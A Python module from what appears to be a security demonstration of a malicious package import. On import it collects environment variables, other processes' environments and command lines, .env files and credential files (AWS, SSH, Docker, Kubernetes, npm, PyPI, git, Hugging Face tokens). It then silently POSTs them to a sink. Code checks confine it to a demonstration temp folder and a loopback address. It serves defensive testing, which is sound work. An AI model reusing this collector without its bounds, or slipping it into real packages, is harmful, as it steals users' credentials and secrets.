"""DEMONSTRATION: what a hostile import takes. Harmless by its bounds, which the README beside the package lists.

Nothing runs without a sink.json in a temporary folder of the demonstration; nothing outside that folder is read; nothing
leaves this machine. Within that it is a fair copy of the published attacks: a wall that stops it stops them.
"""
import http.client
import json
import os
import sys
import time
from urllib.parse import urlsplit

LOOPBACK = ("127.0.0.1", "::1")  # literal addresses: a name could resolve to anything
LIMIT = 2 * 1024 * 1024  # bytes sent per stage
FILE_LIMIT = 256 * 1024  # bytes read per file
SECONDS = 1.5

HOME_PLACES = [
    ".vault-token", ".aws/credentials", ".aws/config", ".netrc", ".pypirc", ".npmrc", ".git-credentials",
    ".cache/huggingface/token", ".huggingface/token", ".docker/config.json", ".kube/config", ".config", ".ssh",
    ".bash_history", ".env",
]
STORE_PLACES = [".local/share/bulkhead", ".config/bulkhead", ".bulkhead", ".cache/bulkhead"]


class Loot:
    """Pieces `--- KIND NAME LENGTH` + bytes, up to LIMIT, with a count of what was tried."""

    def __init__(self, within):
        self.within = within
        self.pieces = []
        self.size = 0
        self.tried = {}
        self.seen = set()
        self.stores = []
        self.deadline = time.monotonic() + SECONDS

    def late(self):
        return time.monotonic() > self.deadline or self.size >= LIMIT

    def inside(self, path):
        real = os.path.realpath(path)
        return real == self.within or real.startswith(self.within + os.sep)

    def try_(self, kind):
        self.tried[kind] = self.tried.get(kind, 0) + 1

    def add(self, kind, name, data):
        data = data[: max(0, LIMIT - self.size)]
        if data:
            self.size += len(data)
            self.pieces.append(f"--- {kind} {json.dumps(name)} {len(data)}\n".encode() + data + b"\n")

    def file(self, kind, path):
        if path in self.seen or self.late():
            return
        self.seen.add(path)
        self.try_(kind)
        try:
            if self.inside(path) and os.path.isfile(path):
                with open(path, "rb") as file:
                    self.add(kind, path, file.read(FILE_LIMIT))
        except OSError:
            pass

    def tree(self, kind, path, most=200):
        """A file, or the files below a folder."""
        if not os.path.isdir(path):
            self.file(kind, path)
        elif self.inside(path):
            for folder, _, names in os.walk(path):
                for name in sorted(names)[:most]:
                    self.file(kind, os.path.join(folder, name))
                if self.late():
                    return


def demonstration():
    """The contents of sink.json beside the project, or None unless it is a demonstration's own and points at loopback."""
    folder = os.path.realpath(os.path.dirname(os.path.abspath(__file__)))
    for _ in range(6):
        folder = os.path.dirname(folder)
        path = os.path.join(folder, "sink.json")
        if os.path.isfile(path):
            break
    else:
        return None
    with open(path, encoding="utf-8") as file:
        plan = json.load(file)
    within = os.path.realpath(plan["within"])
    if not os.path.basename(within).startswith("bulkhead-") or not path.startswith(within + os.sep):
        raise PermissionError("fastfeatures: sink.json is not of a demonstration; nothing was read")
    if loopback(plan["sink"]) is None:
        raise PermissionError("fastfeatures: the sink is not a loopback address; nothing was read")
    return {"sink": plan["sink"], "within": within, "also": [p for p in plan.get("also", []) if isinstance(p, str)]}


def loopback(url):
    """(host, port, path) of a plain-HTTP address on a literal loopback host, else None."""
    try:
        parts = urlsplit(url)
        if parts.scheme == "http" and parts.hostname in LOOPBACK and parts.port and "@" not in parts.netloc:
            return parts.hostname, parts.port, parts.path or "/"
    except (ValueError, TypeError, AttributeError):
        pass
    return None


def take_processes(loot):
    """Environments and command lines: own ancestors and everyone else whose working directory is the demonstration's."""
    try:
        numbers = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    except OSError:
        return
    for number in numbers:
        if loot.late():
            return
        loot.try_("process")
        try:
            if not loot.inside(os.readlink(f"/proc/{number}/cwd")):
                continue
            for what in ("environ", "cmdline"):
                with open(f"/proc/{number}/{what}", "rb") as file:
                    data = file.read(FILE_LIMIT)
                loot.add("process", f"{number}/{what}", data)
                loot.stores += [
                    os.fsdecode(pair.split(b"=", 1)[1]) for pair in data.split(b"\0") if pair.startswith(b"BULKHEAD_HOME=")
                ]
        except OSError:
            continue


def take(plan):
    loot = Loot(plan["within"])
    loot.try_("environment")
    loot.add("environment", "os.environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode("utf-8", "replace"))
    take_processes(loot)

    folder = os.getcwd()
    while loot.inside(folder):
        for name in (".env", ".env.local", ".env.production", ".envrc"):
            loot.file("dotenv", os.path.join(folder, name))
        folder = os.path.dirname(folder)

    home = os.path.expanduser("~")
    homes = {home, os.path.join(plan["within"], "home")}
    stores = [os.environ.get("BULKHEAD_HOME"), os.environ.get("XDG_DATA_HOME", "") + "/bulkhead"] + loot.stores
    for place in homes:
        stores += [os.path.join(place, name) for name in STORE_PLACES]
    for path in [p for p in stores if p] + plan["also"]:
        loot.tree("bulkhead", path)
    for place in homes:
        for name in HOME_PLACES:
            loot.tree("home", os.path.join(place, name))
    return loot


def send(url, body):
    host, port, path = loopback(url)
    connection = http.client.HTTPConnection(host, port, timeout=0.5)  # no proxy, no redirect
    try:
        connection.request("POST", path, body, {"Content-Type": "application/octet-stream"})
        connection.getresponse().read(1024)
    finally:
        connection.close()


def collect():
    """Runs once per import. A refusal is said on standard error; any other failure stays silent, as an attack's would."""
    try:
        plan = demonstration()
        if plan is None:
            return
        loot = take(plan)
        stage = os.path.basename(sys.argv[0])
        head = json.dumps({"stage": stage, "tried": loot.tried, "sent": loot.size})
        send(plan["sink"], f"--- head {json.dumps(stage)} {len(head)}\n{head}\n".encode() + b"".join(loot.pieces))
    except PermissionError as error:
        if str(error).startswith("fastfeatures"):
            sys.stderr.write(f"{error}\n")
    except Exception:  # the stage must go on as if nothing had happened
        pass
